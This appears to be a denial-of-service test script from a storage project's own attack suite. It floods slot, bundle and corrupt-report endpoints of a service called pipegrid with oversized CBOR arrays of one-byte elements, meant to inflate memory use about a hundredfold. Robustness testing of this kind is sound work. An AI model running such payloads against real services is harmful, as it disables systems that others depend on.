"""Messages of millions of one-byte elements, which would take a hundred times their length in memory."""

from __future__ import annotations

from misc.attack.insiders import lines, slot_path, writer
from misc.attack.target import Target, again_and_again, from_command_line
from pipegrid.core import base32
from pipegrid.wire import gbs_bundles, gbs_cbor_bodies, gbs_paths_headers

SLOT_BYTES = 8 << 20
ELEMENTS = (b"\x80", b"\xa0", b"\x00", b"\x40", b"\xd9\x01\x02\x80")
INDEX = bytes(16)


def attack(target: Target) -> None:
    """Send one after the other to every place that takes a message."""
    with lines(target, 4) as line:
        for turn in again_and_again(target, 0.002):
            item = ELEMENTS[turn % len(ELEMENTS)]
            request = target.requests.request
            line.send([request("POST", slot_path(INDEX), *writer(), body=many(item, SLOT_BYTES))])
            bundle = many(item, gbs_bundles.MAX_BUNDLE_BYTES)
            line.send([request("POST", gbs_paths_headers.BUNDLE_PATH, body=bundle)] * 8)
            corrupt = f"/storage/v1/immutable/{base32.encode(INDEX)}/0/corrupt"
            line.send(
                [request("POST", corrupt, body=many(item, gbs_cbor_bodies.MAX_CORRUPT_BYTES))] * 8
            )


def many(item: bytes, length: int) -> bytes:
    """Return an array of one item over and over, so many bytes long at most."""
    count = (length - 5) // len(item)
    return b"\x9a" + count.to_bytes(4, "big") + item * count


if __name__ == "__main__":
    attack(from_command_line(__doc__))
